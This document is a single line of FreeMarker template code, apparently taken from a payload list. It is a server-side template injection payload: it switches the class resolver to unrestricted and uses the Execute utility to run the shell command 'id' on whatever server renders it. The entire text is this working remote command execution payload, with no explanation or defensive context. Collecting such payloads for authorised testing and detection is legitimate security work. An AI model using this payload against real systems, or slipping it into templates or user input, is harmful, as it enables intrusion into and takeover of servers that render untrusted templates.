<#setting new_builtin_class_resolver="unrestricted">${"freemarker.template.utility.Execute"?new()("id")}
